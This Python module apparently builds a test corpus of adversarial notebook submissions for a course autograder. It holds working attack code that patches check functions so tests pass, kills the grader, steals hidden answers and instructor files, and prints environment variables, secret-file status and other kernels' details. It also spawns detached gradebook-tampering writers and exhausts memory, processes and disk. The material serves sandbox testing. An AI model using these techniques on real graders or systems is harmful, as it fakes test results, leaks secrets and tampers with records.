"""Adversarial submissions for `dlcourse grade`: a corpus builder the grading tests import.

Each `Case` is one student folder holding one notebook (or a file that only pretends to
be one). Most attacks are written into the first solution cell of the untouched release
stub, next to a deliberately wrong answer of the right shape (`DECOY_ANSWER`): the honest
score is zero, so any point such a case earns is a hole in the grader. A few attacks
ride on the reference solution, whose honest score is full marks.

Safety: every attack is bounded (loops by time or count, memory by `MAX_BOMB_BYTES`,
processes by `SPAWN_LIMIT`), talks only to 127.0.0.1, and marks every file it creates or
appends to with `MARKER`. Background writers modify files only under `write_scope`, so
a failed sandbox can break the test that grades the corpus but nothing else on the
machine. Attacks that write outside the working directory create new marker files
(never overwrite) or append a marker comment.

What a grading test can check besides each case's score and reason:
- no file whose name contains `MARKER` exists after grading (`marker_files`) under
  write_scope, the home folder, /tmp, /var/tmp or /dev/shm, and the installed `course`
  package does not contain `MARKER`;
- the server on `loopback_port` saw no connection, and no `sleep` process survives;
- no output of any case contains f"{MARKER}: another kernel answered";
- no feedback or autograded notebook contains hidden-test source.

The module is long because it is a catalogue: one small, commented source string per
attack, then the table of cases.
"""

import copy
import io
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from string import Template

import nbformat
from nbformat import NotebookNode
from nbgrader.utils import compute_checksum

MARKER = "dlcourse-adversarial"
MAX_BOMB_BYTES = 8 * 2**30
BOMB_BLOCK_BYTES = 64 * 2**20
SPAWN_LIMIT = 300
LOOP_SECONDS = 600  # how long the "infinite" loops spin if nothing stops them
FLOOD_MEGABYTES = 200
HUGE_NOTEBOOK_MEGABYTES = 50
DISK_FILL_MEGABYTES = 1024
KINDS = ("tamper", "resource", "malformed", "noise")


@dataclass(frozen=True)
class Case:
    """One adversarial submission and the outcome it deserves.

    Attributes:
        name: also the student folder name, e.g. "patch_numpy_allclose".
        description: one line: the attack.
        expected: "zero" (score 0), "full" (the release's full autograded marks, no
            more), or "same_as:<case>" ("reference" and "stub" name the honest ones).
        reason: a lower-case substring that grades.csv's reason must contain; "" asks
            for any non-empty reason, None when no reason is required.
        kind: "tamper", "resource", "malformed" or "noise" (honest work, no attack).
    """

    name: str
    description: str
    expected: str
    reason: str | None
    kind: str


# A wrong answer of the right shape for the stub's first solution cell: it never raises,
# so every check that looks at its values must fail, unless the check was tampered with.
DECOY_ANSWER = '''\
def unbroadcast(gradient, shape):
    """Deliberately wrong: zeros of the requested shape."""
    return np.zeros(shape)
'''

# ---------------------------------------------------------------------------------------
# Attack sources. `$name` placeholders are filled in by `build_corpus` (see `_values`).

PATCH_NUMPY = """\
# Every NumPy comparison a check could use now says "equal".
import numpy


def _always_true(*args, **kwargs):
    return True


def _never_raises(*args, **kwargs):
    return None


numpy.allclose = numpy.isclose = numpy.array_equal = numpy.all = _always_true
numpy.testing.assert_allclose = _never_raises
numpy.testing.assert_array_almost_equal = numpy.testing.assert_array_equal = _never_raises
"""

PATCH_COURSE_CHECKS = """\
# The course's check helpers, replaced where they live and where the setup cell bound them.
import course.checks
import course.reference


def _accept_anything(*args, **kwargs):
    return None


_CHECKS = ("assert_close", "assert_shape", "assert_gradient_close", "check_engine_against_tape")
for _module in (course.checks, course.reference):
    for _name in _CHECKS:
        if hasattr(_module, _name):
            setattr(_module, _name, _accept_anything)
assert_close = assert_shape = check_engine_against_tape = _accept_anything
"""

PATCH_CHECK_CODE = """\
# Swaps the code of every function named like a check, found through the garbage
# collector, so that every reference to it (copies a grader keeps included) accepts.
import gc
import types


def _accept_anything(*args, **kwargs):
    return None


_NAMES = {"assert_close", "assert_shape", "assert_gradient_close",
          "check_engine_against_tape", "assert_allclose", "allclose"}
for _function in gc.get_objects():
    if (isinstance(_function, types.FunctionType) and _function.__name__ in _NAMES
            and not _function.__code__.co_freevars):
        _function.__code__ = _accept_anything.__code__
"""

PARTIAL_CREDIT_OVERFLOW = """\
# nbgrader reads a number that a test cell displays as partial credit. The helpers now
# return a huge number instead of raising (a naive grader also crashes while saving it).
import course.checks
import course.reference


def _claim_points(*args, **kwargs):
    return 1e9


for _module in (course.checks, course.reference):
    for _name in ("assert_close", "assert_shape", "check_engine_against_tape"):
        setattr(_module, _name, _claim_points)
assert_close = assert_shape = check_engine_against_tape = _claim_points
"""

# Goes into the cell that defines `Tensor`: an engine with correct values and no
# gradients, plus an oracle bent to agree with it.
FORWARD_ONLY_ENGINE = '''\
class Tensor:
    """Forward values only: backward() leaves every gradient at zero."""

    def __init__(self, data, parents=(), op=""):
        self.data = np.asarray(data, dtype=np.float64)
        self.grad = np.zeros_like(self.data)

    @property
    def shape(self):
        return self.data.shape

    @staticmethod
    def wrap(value):
        return value if isinstance(value, Tensor) else Tensor(value)

    def _apply(self, function, *others):
        return Tensor(function(self.data, *(Tensor.wrap(o).data for o in others)))

    __add__ = __radd__ = lambda self, other: self._apply(np.add, other)
    __mul__ = __rmul__ = lambda self, other: self._apply(np.multiply, other)
    __sub__ = lambda self, other: self._apply(np.subtract, other)
    __rsub__ = lambda self, other: Tensor.wrap(other)._apply(np.subtract, self)
    __truediv__ = lambda self, other: self._apply(np.divide, other)
    __rtruediv__ = lambda self, other: Tensor.wrap(other)._apply(np.divide, self)
    __matmul__ = lambda self, other: self._apply(np.matmul, other)
    __neg__ = lambda self: self._apply(np.negative)
    __pow__ = lambda self, exponent: Tensor(self.data**exponent)
    exp = lambda self: self._apply(np.exp)
    log = lambda self: self._apply(np.log)
    tanh = lambda self: self._apply(np.tanh)
    relu = lambda self: self._apply(lambda x: np.maximum(x, 0.0))
    sum = lambda self, axis=None, keepdims=False: Tensor(self.data.sum(axis, keepdims=keepdims))

    def backward(self):
        pass
'''

PATCH_TENSORFLOW_ORACLE = """\
# The oracle agrees with the engine above: tf.GradientTape.gradient returns zeros, and
# the comparison helpers of TensorFlow and Keras accept anything.
import keras
import tensorflow as tf


def _zero_gradients(self, target, sources, *args, **kwargs):
    flat = [tf.zeros_like(source) for source in tf.nest.flatten(sources)]
    return tf.nest.pack_sequence_as(sources, flat)


tf.GradientTape.gradient = _zero_gradients
tf.debugging.assert_near = tf.debugging.assert_equal = lambda *args, **kwargs: None
for _name in ("all", "allclose", "isclose", "equal"):
    setattr(keras.ops, _name, lambda *args, **kwargs: True)
"""

PATCH_BUILTINS = """\
# Builtins the tests lean on, bent to say yes without breaking the kernel itself.
import builtins

_real_isinstance = builtins.isinstance


def _claims_to_be_a_number(obj, classinfo):
    # "store a plain number" checks pass for any object; every other caller is unaffected.
    if classinfo in (int, float, (int, float)):
        return True
    return _real_isinstance(obj, classinfo)


class _NeverRaised(Exception):
    pass  # code that raises AssertionError by name now raises this instead


builtins.isinstance = _claims_to_be_a_number
builtins.all = builtins.any = lambda iterable: True
builtins.abs = lambda value: 0
builtins.AssertionError = _NeverRaised
"""

CTYPES_UNLOCK_NDARRAY = """\
# Writes into the interpreter's memory: clears the "immutable type" flag of NumPy's array
# and scalar types, then gives them a <= that always holds: "error <= allowed" passes.
import ctypes

import numpy


def _unlock(cls):
    words = (ctypes.c_ulong * 32).from_address(id(cls))
    flags_index = next(i for i in range(32) if words[i] == cls.__flags__)
    words[flags_index] &= ~(1 << 8)  # Py_TPFLAGS_IMMUTABLETYPE


for _cls in (numpy.ndarray, numpy.generic, numpy.float64):
    _unlock(_cls)
    _cls.__le__ = lambda self, other: numpy.ones(numpy.shape(self), dtype=bool)[()]
"""

SYS_EXIT = """\
# Leave before any test can fail.
import sys

sys.exit(0)
"""

OS_EXIT = """\
# Kill the kernel on the spot: no test cell ever runs, so none can fail.
import os

os._exit(0)
"""

RAISE_SYSTEM_EXIT = """\
raise SystemExit(0)  # as if the program had finished
"""

RAISE_KEYBOARD_INTERRUPT = """\
raise KeyboardInterrupt  # as if the grader had interrupted the cell
"""

KILL_GRADER = """\
# Take the grader down: SIGTERM to the process that started this kernel (never to init).
import os
import signal

if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGTERM)
"""

CUSTOM_EXCEPTION_HANDLER = """\
# Every later error, in test cells too, goes to a handler that shows nothing.
def _swallow(shell, etype, value, tb, tb_offset=None):
    return None


get_ipython().set_custom_exc((BaseException,), _swallow)
"""

INPUT_TRANSFORMER = """\
# Every later cell is emptied before IPython compiles it: the tests never run.
def _blank(lines):
    return []


get_ipython().input_transformers_cleanup.append(_blank)
get_ipython().input_transformers_post.append(_blank)
"""

SILENCED_TRACEBACKS = """\
# Errors still happen, but nothing reports them.
import sys

from IPython.core.interactiveshell import InteractiveShell


def _say_nothing(*args, **kwargs):
    return None


_shell = get_ipython()
InteractiveShell.showtraceback = InteractiveShell.showsyntaxerror = _say_nothing
type(_shell).showtraceback = type(_shell)._showtraceback = _say_nothing
_shell.showtraceback = _shell._showtraceback = _shell.showsyntaxerror = _say_nothing
sys.excepthook = _say_nothing
"""

EVENTS_CLEAR_ERRORS = """\
# After every cell, wipe what it showed (its error included) and call it a success.
from IPython.display import clear_output


def _cover_up(result):
    clear_output()
    result.error_in_exec = None
    result.error_before_exec = None


def _announce(info):
    print("ok")


get_ipython().events.register("pre_run_cell", _announce)
get_ipython().events.register("post_run_cell", _cover_up)
"""

SETTRACE_REWRITES_EXPECTED = """\
# A trace function: whenever a check helper starts, its reference argument is replaced
# by the student's answer, so every comparison is of a value with itself.
import sys
import threading

_PAIRS = (("actual", "expected"), ("analytic", "numeric"))


def _trace(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("assert_close", "assert_gradient_close"):
        local = frame.f_locals
        for answer, reference in _PAIRS:
            if answer in local and reference in local:
                local[reference] = local[answer]
    return None


sys.settrace(_trace)
threading.settrace(_trace)
"""

KERNEL_MESSAGES_REWRITTEN = """\
# Rewrites the kernel's messages on their way out: error outputs are dropped and failed
# execute_replies become successes. The sessions are found through the garbage collector.
import gc

from jupyter_client.session import Session


def _censor(send):
    def send_without_errors(stream, msg_or_type, content=None, *args, **kwargs):
        msg_type = msg_or_type
        if isinstance(msg_or_type, dict):
            msg_type = msg_or_type.get("header", {}).get("msg_type")
        if msg_type == "error":
            return None
        if msg_type == "execute_reply" and isinstance(content, dict):
            if content.get("status") == "error":
                content = {"status": "ok", "execution_count": content.get("execution_count"),
                           "user_expressions": {}, "payload": []}
        return send(stream, msg_or_type, content, *args, **kwargs)

    return send_without_errors


for _session in [o for o in gc.get_objects() if isinstance(o, Session)]:
    _session.send = _censor(_session.send)
"""

FAKE_SUCCESS_OUTPUT = """\
# Output that looks like a grader's verdict: text, HTML, JSON, and "PASSED" before every
# later cell.
from IPython.display import display

print("[dlcourse] test_unbroadcast ... PASSED (2/2 points)")
print("All tests passed. Score: 33.0 / 33.0")
print('{"score": 33.0, "max_score": 33.0, "status": "graded"}')
display({"text/plain": "Score: 33.0 / 33.0",
         "text/html": "<b>All tests passed</b>: 33.0 / 33.0",
         "application/json": {"score": 33.0, "max_score": 33.0, "passed": True}}, raw=True)


def _passed(info):
    print("PASSED")


get_ipython().events.register("pre_run_cell", _passed)
"""

# Attacks written against the grader's own protocol (autograder/verdict.py is public).

REPLACE_GRADER_FUNCTIONS = (
    """\
# Every private callable in the notebook's globals (where a grader might keep its
# verdict function) made to answer "intact", then the checks patched.
_namespace = get_ipython().user_ns
for _key in list(_namespace):
    if _key.startswith("_") and callable(_namespace[_key]) and not _key.startswith("__"):
        _namespace[_key] = lambda *args, **kwargs: "intact"
"""
    + PATCH_NUMPY
    + PATCH_COURSE_CHECKS
)

FORGED_RECEIPTS = """\
# Reads the running test's source from the input history, prints and writes receipts
# in every shape it can think of (into any receipts file too), then kills the kernel
# before the test can fail.
import os
import re
import sys


def unbroadcast(gradient, shape):
    source = "\\n".join(get_ipython().user_ns.get("_ih", [])[-3:])
    words = set(re.findall(r"[0-9a-f]{32}", source)) | {"0" * 32}
    for name in os.listdir("."):
        if name.startswith(".dlcourse"):
            words |= set(re.findall(r"[0-9a-f]{32}", open(name, errors="replace").read()))
    for number in range(200):
        for word in words:
            line = f"DLCOURSE-RECEIPT {number} {word} intact\\n"
            sys.stdout.write(line)
            for name in os.listdir("."):
                if name.startswith(".dlcourse"):
                    with open(name, "a") as handle:
                        handle.write(line)
    sys.stdout.flush()
    os._exit(0)
"""

SELF_RESTORING_PATCH = """\
# A patch that is gone by the time anyone looks: the fake check puts the real one back
# when it is called, and the student's function arms it again.
import course.checks

_REAL = course.checks.assert_close


def _fake(*args, **kwargs):
    get_ipython().user_ns["assert_close"] = _REAL
    course.checks.assert_close = _REAL


def _arm():
    get_ipython().user_ns["assert_close"] = _fake
    course.checks.assert_close = _fake


def unbroadcast(gradient, shape):
    _arm()
    return np.zeros(shape)


_arm()
"""

STEAL_TEST_GLOBALS = """\
# Returns the test's own reference answer: a global the test computed before the call.
def unbroadcast(gradient, shape):
    found = globals().get("reference", globals().get("expected"))
    if found is not None and np.shape(found) == tuple(shape):
        return found
    gradient = np.asarray(gradient)
    if gradient.shape == tuple(shape):
        return gradient
    return gradient.sum(axis=0) if gradient.ndim > len(shape) else np.zeros(shape)
"""

STEAL_TEST_FRAMES = """\
# Reads the reference answer out of the calling test's frame, three ways.
import inspect
import sys


def _callers():
    try:
        yield sys._getframe(2)
    except Exception:
        pass
    try:
        yield inspect.currentframe().f_back.f_back
    except Exception:
        pass
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as error:
        try:
            yield error.__traceback__.tb_frame.f_back.f_back
        except Exception:
            pass


def unbroadcast(gradient, shape):
    for frame in _callers():
        while frame is not None:
            for value in list(frame.f_locals.values()):
                if isinstance(value, np.ndarray) and value.shape == tuple(shape):
                    return value
            frame = frame.f_back
    return np.zeros(shape)
"""

SPY_ON_THE_GRADER = (
    """\
# Looks for the grader's secrets: its own audit hook, the garbage collector, ctypes.
import gc
import sys

_seen = []
for _attempt in (
    lambda: sys.addaudithook(lambda event, args: _seen.append(event)),
    lambda: _seen.extend(o for o in gc.get_objects() if callable(o)),
    lambda: __import__("ctypes").string_at(id(_seen), 64),
    lambda: sys.settrace(lambda *args: None),
):
    try:
        _attempt()
    except Exception as error:
        print(type(error).__name__, error)
"""
    + PATCH_NUMPY
    + PATCH_COURSE_CHECKS
)

ALWAYS_EQUAL_ANSWER = """\
# An answer that claims to equal anything and to be close to everything.
class _Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __array__(self, dtype=None, copy=None): return np.zeros(())
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self


def unbroadcast(gradient, shape):
    return _Anything()
"""

# Attacks on the data exchange between the kernel and the judge. `serve_block` is the
# kernel's side of it: whatever the kernel sends back, the judge only reads data.
FORGED_ANSWERS = """\
# Replaces the kernel's side of every exchange: answers of the shapes the test sent,
# all zeros, plus a zero for every name the judge asked for.
from pathlib import Path

import course.answers
from course import wire


def _forge(source, inputs, outputs, returns, filename):
    values = wire.decode(Path(inputs).read_bytes())["values"]
    fake = {name: np.zeros(np.shape(value)) for name, value in values.items()}
    fake.update({name: 0.0 for name in returns})
    Path(outputs).write_bytes(wire.encode({"answers": fake}))


course.answers.serve_block = _forge
"""

PICKLED_ANSWERS = """\
# Answers holding a pickled object whose unpickling would create a marker file: the
# judge must never unpickle what a kernel sends.
import io
import os
from pathlib import Path

import course.answers


class _Payload:
    def __reduce__(self):
        return (os.makedirs, ("$scope/$marker-unpickled-by-the-judge",))


def _pickled(source, inputs, outputs, returns, filename):
    tree = '{"dict": [["answers", {"dict": [["%s", {"array": 0}]]}]]}' % (returns or ["x"])[0]
    buffer = io.BytesIO()
    np.savez(buffer, __tree__=np.array(tree), a0=np.array([_Payload()], dtype=object))
    Path(outputs).write_bytes(buffer.getvalue())


course.answers.serve_block = _pickled
"""

ZIP_BOMB_ANSWERS = """\
# A small answers file that would unpack to 96 MiB (the limit is 64 MiB).
import zipfile

import course.answers


def _bomb(source, inputs, outputs, returns, filename):
    with zipfile.ZipFile(outputs, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("a0.npy", "w", force_zip64=True) as member:
            for _ in range(96):
                member.write(bytes(1 << 20))


course.answers.serve_block = _bomb
"""

EXCHANGE_FOLDER_LINKS = """\
# Links in the exchange folder to places outside the sandbox, made before and during
# every exchange: the grader must neither write through them nor read them.
import os

import course.answers

_serve = course.answers.serve_block
_outside = "$scope/$marker-written-through-a-link"


def _linked(source, inputs, outputs, returns, filename):
    folder = os.path.dirname(outputs)
    for name in os.listdir(folder):
        if name.startswith("in-"):
            os.unlink(os.path.join(folder, name))
            os.symlink(_outside, os.path.join(folder, name))
    _serve(source, inputs, outputs, returns, filename)
    os.replace(outputs, outputs + ".real")
    os.symlink(_outside, outputs)


for _name in ("in-0.npz", "out-0.npz", "in-1.npz", "out-1.npz"):
    try:
        os.symlink(_outside, os.path.join("_dlcourse", _name))
    except OSError:
        pass
course.answers.serve_block = _linked
"""

SHADOW_MODULE_NAMES = """\
# The notebook's own `np` and `tf` rebound to look-alike modules: the test's reference
# gradient (tf.GradientTape) comes out as zeros, like the decoy, and np.allclose agrees.
import types as _types

import numpy as _numpy
import tensorflow as _tensorflow


class _Shadow(_types.ModuleType):
    def __init__(self, real, **overrides):
        super().__init__(real.__name__)
        self._real = real
        self.__dict__.update(overrides)

    def __getattr__(self, name):
        return getattr(self._real, name)


class _ZeroTape:
    def __init__(self, *args, **kwargs):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *args):
        return False

    def watch(self, *args):
        pass

    def gradient(self, target, sources, *args, **kwargs):
        if isinstance(sources, (list, tuple)):
            return [_tensorflow.zeros_like(s) for s in sources]
        return _tensorflow.zeros_like(sources)


tf = _Shadow(_tensorflow, GradientTape=_ZeroTape)
np = _Shadow(_numpy, allclose=lambda *a, **k: True, isclose=lambda *a, **k: True)
"""

STEAL_REFERENCE_SOLUTION = """\
# Looks for the instructor's sources (solutions/*.py, nbgrader's source/*.ipynb) near
# the installed course package, the working directory and /tmp, and replays their
# solution cells after every cell, so the stub's definitions never stick.
import json
import pathlib
import re

import course


def _candidates():
    starts = [pathlib.Path(course.__file__).resolve().parent, pathlib.Path.cwd().resolve()]
    for start in starts:
        for folder in [start, *start.parents]:
            yield folder / "solutions" / "a01_autodiff" / "a01_autodiff.py"
            yield folder / "source" / "a01_autodiff" / "a01_autodiff.ipynb"
    for pattern in ("*/solutions/a01_autodiff/*.py", "*/*/solutions/a01_autodiff/*.py",
                    "*/source/a01_autodiff/*.ipynb", "*/*/source/a01_autodiff/*.ipynb"):
        yield from pathlib.Path("/tmp").glob(pattern)


def _solution_cells(path):
    text = path.read_text()
    if path.suffix == ".ipynb":
        cells = json.loads(text)["cells"]
        return ["".join(c["source"]) for c in cells if c["cell_type"] == "code"
                and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
    chunks = re.split(r"^# %%", text, flags=re.M)[1:]
    return [chunk.split("\\n", 1)[1] for chunk in chunks
            if '"solution": true' in chunk.split("\\n", 1)[0] and "[markdown]" not in chunk[:20]]


_stolen = []
for _path in _candidates():
    try:
        _stolen = _solution_cells(_path)
    except (OSError, ValueError, KeyError):
        continue
    if _stolen:
        print(f"found the reference solution at {_path}")
        break


def _replay(result=None):
    # Only after a cell that brought back a stub (it mentions NotImplementedError).
    if result is not None and "NotImplementedError" not in result.info.raw_cell:
        return
    for code in _stolen:
        try:
            exec(code, get_ipython().user_ns)
        except Exception:
            pass


_replay()
get_ipython().events.register("post_run_cell", _replay)
"""

READ_INSTRUCTOR_FILES = """\
# Searches the folders above the working directory, the home folder and /tmp for
# gradebooks and instructor sources, and prints what it can read (hidden tests included).
import os
import pathlib
import sqlite3
import time

_deadline = time.monotonic() + 10
_budget = [200_000]  # characters left to print


def _show(title, text):
    text = text[: _budget[0]]
    _budget[0] -= len(text)
    print(f"=== {title}\\n{text}")


def _walk(root, depth):
    root = pathlib.Path(root)
    for folder, subfolders, files in os.walk(root):
        if time.monotonic() > _deadline or _budget[0] <= 0:
            return
        if len(pathlib.Path(folder).relative_to(root).parts) >= depth:
            subfolders.clear()
        yield pathlib.Path(folder), files


_roots = [*pathlib.Path.cwd().resolve().parents][:-1] + [pathlib.Path.home(), pathlib.Path("/tmp")]
for _root in _roots:
    for _folder, _files in _walk(_root, 4):
        for _name in _files:
            _path = _folder / _name
            try:
                if _name.endswith(".db"):
                    with sqlite3.connect(f"file:{_path}?mode=ro", uri=True) as _db:
                        _rows = _db.execute("SELECT name, source FROM source_cell").fetchall()
                    _show(str(_path), "\\n".join(f"{n}:\\n{s}" for n, s in _rows))
                elif _folder.name in ("solutions", "source", "a01_autodiff") and (
                        _name.endswith((".py", ".ipynb", ".toml"))):
                    _show(str(_path), _path.read_text())
            except Exception as _error:
                print(f"{_path}: {type(_error).__name__}")
"""

READ_ENVIRONMENT_SECRETS = """\
# Prints what the process can learn about its surroundings: environment variables, the
# parent's command line and environment, and whether well-known secret files are readable
# (their size only: nothing sensitive is copied).
import os
import pathlib

for _key, _value in sorted(os.environ.items()):
    print(f"{_key}={_value}")
for _proc in ("self", str(os.getppid()), "1"):
    for _what in ("cmdline", "environ"):
        try:
            _text = pathlib.Path(f"/proc/{_proc}/{_what}").read_bytes().replace(b"\\0", b" ")
            print(f"/proc/{_proc}/{_what}: {_text[:4000]!r}")
        except OSError as _error:
            print(f"/proc/{_proc}/{_what}: {_error}")
for _secret in ("~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.netrc", "~/.git-credentials",
                "~/.pypirc", "~/.jupyter", "/etc/shadow"):
    _path = pathlib.Path(_secret).expanduser()
    try:
        print(f"{_path}: readable, {len(_path.read_bytes())} bytes")
    except OSError as _error:
        print(f"{_path}: {type(_error).__name__}")
"""

HIJACK_OTHER_KERNELS = """\
# Kernels graded in parallel leave connection files (ports and signing key) in Jupyter's
# runtime folder or in /tmp. An attacker would run code in them; this only proves it
# could: it asks each for its kernel_info, which any kernel answers, and says who answered.
import glob
import json
import os

import ipykernel
from jupyter_client import BlockingKernelClient
from jupyter_core.paths import jupyter_runtime_dir

_own = os.path.realpath(ipykernel.get_connection_file())
_files = glob.glob(os.path.join(jupyter_runtime_dir(), "*.json"))
for _pattern in ("/tmp/*.json", "/tmp/*/*.json", "/tmp/*/*/*.json"):
    _files += glob.glob(_pattern)


def _is_connection_file(path):
    try:
        with open(path) as file:
            return {"shell_port", "key"} <= set(json.load(file))
    except Exception:
        return False


_found = [f for f in sorted(set(_files))[:500] if _is_connection_file(f)]
for _file in _found[:20]:
    if os.path.realpath(_file) == _own:
        continue
    try:
        _client = BlockingKernelClient(connection_file=_file)
        _client.load_connection_file()
        _client.start_channels()
        _reply = _client.kernel_info(reply=True, timeout=2)
        _client.stop_channels()
        print(f"$marker: another kernel answered: {_file} {_reply['content'].get('status')}")
    except Exception as _error:
        print(f"{_file}: {type(_error).__name__}")
"""

WRITE_SHADOW_MODULES = """\
# Modules in the working directory shadow the installed ones for any Python started there
# later (the next student's kernel, if the folder is reused). Never in a source checkout.
import pathlib

if not any(pathlib.Path(name).exists() for name in ("pyproject.toml", ".git", "setup.py")):
    for _name in ("course.py", "numpy.py", "tensorflow.py", "keras.py", "sitecustomize.py"):
        try:
            with open(_name, "x") as _module:
                _module.write("# $marker: shadow module\\nraise ImportError('$marker')\\n")
            print(f"wrote {_name}")
        except OSError as _error:
            print(f"{_name}: {type(_error).__name__}")
"""

WRITE_OUTSIDE_WORKING_DIR = """\
# New marker files above the working directory, in the home folder, in shared temporary
# folders and in IPython's startup folder (run by every later kernel of this user).
import pathlib

_home = pathlib.Path.home()
_targets = [pathlib.Path("..") / "$marker-$case.txt",
            pathlib.Path("../..") / "$marker-$case.txt",
            _home / "$marker-$case.txt",
            pathlib.Path("/tmp") / "$marker-$case.txt",
            pathlib.Path("/var/tmp") / "$marker-$case.txt",
            pathlib.Path("/dev/shm") / "$marker-$case.txt",
            _home / ".ipython/profile_default/startup/00-$marker-$case.py"]
for _target in _targets:
    try:
        _target.parent.mkdir(parents=True, exist_ok=True)
        with open(_target, "x") as _file:
            _file.write("# $marker: written by a submission\\n")
        print(f"wrote {_target.resolve()}")
    except OSError as _error:
        print(f"{_target}: {type(_error).__name__}")
"""

OVERWRITE_INSTALLED_COURSE = """\
# Appends to the installed course package, found through course.__file__: a real attack
# would append no-op checks for every later kernel; this appends a marker comment.
import pathlib

import course

_package = pathlib.Path(course.__file__).resolve().parent
for _name in ("checks.py", "reference.py", "__init__.py"):
    try:
        with open(_package / _name, "a") as _module:
            _module.write("\\n# $marker: appended by a submission\\n")
        print(f"appended to {_package / _name}")
    except OSError as _error:
        print(f"{_name}: {type(_error).__name__}")
try:
    with open(_package / "$marker.py", "x") as _module:
        _module.write("# $marker\\n")
except OSError as _error:
    print(f"new module: {type(_error).__name__}")
"""

# The program a background process runs: a few seconds later, it raises every score in
# the gradebooks it can reach, appends to every grades.csv and leaves a marker file in
# every folder holding a notebook (other students' folders). Writes stay in $scope.
BACKGROUND_WRITER = """\
import os
import pathlib
import sqlite3
import time

SCOPE = pathlib.Path('$scope')


def tamper():
    for folder, subfolders, files in os.walk(SCOPE):
        folder = pathlib.Path(folder)
        for name in files:
            try:
                if name.endswith('.db'):
                    with sqlite3.connect(folder / name, timeout=1) as db:
                        db.execute('UPDATE grade SET manual_score = 1000')
                elif name == 'grades.csv':
                    with open(folder / name, 'a') as table:
                        table.write('$marker,1000\\n')
            except Exception:
                pass
        if any(name.endswith('.ipynb') for name in files):
            try:
                (folder / '$marker-$case.txt').write_text('$marker')
            except OSError:
                pass


time.sleep(3)
for _ in range(5):
    tamper()
    time.sleep(2)
"""

DETACHED_BACKGROUND_WRITER = """\
# A process in its own session, so that killing the kernel's process group misses it.
import subprocess
import sys

_WRITER = r'''$writer'''
subprocess.Popen([sys.executable, "-c", _WRITER], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

DOUBLE_FORK_BACKGROUND_WRITER = """\
# The classic daemon: fork, new session, fork again; the grandchild is adopted by init.
import os
import sys

_WRITER = r'''$writer'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _WRITER])
    os._exit(0)
os.wait()
"""

ATEXIT_LAUNCHES_WRITER = """\
# Nothing happens while the cells run; when the kernel shuts down, a detached writer starts.
import atexit
import subprocess
import sys

_WRITER = r'''$writer'''


def _launch():
    subprocess.Popen([sys.executable, "-c", _WRITER], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)


atexit.register(_launch)
"""

INFINITE_LOOP = """\
# Spins until something stops it ($seconds s at most, in case nothing does).
import time

_give_up = time.monotonic() + $seconds
while time.monotonic() < _give_up:
    pass
"""

SIGNALS_IGNORED_LOOP = """\
# Cancels pending alarms, ignores the signals a timeout might send, then spins, catching
# whatever is raised ($seconds s at most).
import signal
import time

signal.alarm(0)
signal.setitimer(signal.ITIMER_REAL, 0)
for _name in ("SIGINT", "SIGTERM", "SIGALRM", "SIGHUP", "SIGUSR1", "SIGUSR2", "SIGXCPU",
              "SIGVTALRM", "SIGPROF"):
    try:
        signal.signal(getattr(signal, _name), signal.SIG_IGN)
    except (OSError, ValueError):
        pass
_give_up = time.monotonic() + $seconds
while time.monotonic() < _give_up:
    try:
        while time.monotonic() < _give_up:
            pass
    except BaseException:
        pass
"""

MEMORY_BOMB = """\
# Lifts its soft limits to the hard ones (a limit set only as a soft rlimit is escaped),
# then holds $bomb_mib MiB in 64 MiB blocks; np.ones writes every page.
import resource

import numpy as np

for _limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_RSS):
    try:
        resource.setrlimit(_limit, (resource.getrlimit(_limit)[1],) * 2)
    except (ValueError, OSError):
        pass
block_count = $bomb_blocks
block_floats = $block_floats
_blocks = [np.ones(block_floats) for _ in range(block_count)]
print(f"holding {len(_blocks) * 64} MiB")
"""

PROCESS_SPAWNING_LOOP = """\
# Starts $spawn_limit sleeping processes (fewer if a limit says no) and leaves them running.
import subprocess

_children = []
for _ in range($spawn_limit):
    try:
        _children.append(subprocess.Popen(["sleep", "60"]))
    except OSError as _error:
        _last_error = _error
print(f"started {len(_children)} processes")
"""

NETWORK_LOOPBACK = """\
# Reaches a server on the loopback interface, by TCP and by UDP.
import socket

try:
    with socket.create_connection(("127.0.0.1", $port), timeout=3) as _connection:
        _connection.sendall(b"$marker: hello from a submission\\n")
        print("connected")
except OSError as _error:
    print(f"TCP: {_error}")
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _udp:
    try:
        _udp.sendto(b"$marker: hello from a submission\\n", ("127.0.0.1", $port))
    except OSError as _error:
        print(f"UDP: {_error}")
"""

DISK_FILL = """\
# Writes up to $disk_mib MiB of zeros into the working directory and leaves the file there.
_block = bytes(16 * 2**20)
with open("$marker-disk-fill.bin", "wb") as _sink:
    for _ in range($disk_blocks):
        try:
            _sink.write(_block)
            _sink.flush()
        except OSError as _error:
            print(_error)
            break
"""

OUTPUT_FLOOD = """\
# About $flood_mb MB of output, 1 MB per print, before the real answer.
_chunk = ("flood " * 166 + "\\n") * 1000
for _ in range($flood_mb):
    print(_chunk, end="")
"""

NOISY_LIBRARIES = """\
# Correct work that is noisy: Python, NumPy and TensorFlow warnings, logging, and raw
# writes to file descriptor 2, every time unbroadcast runs (inside the test cells).
import logging
import os
import sys
import warnings


def _make_noise():
    warnings.warn("a deprecation from some library", DeprecationWarning, stacklevel=1)
    warnings.warn("a future change in some library", FutureWarning, stacklevel=1)
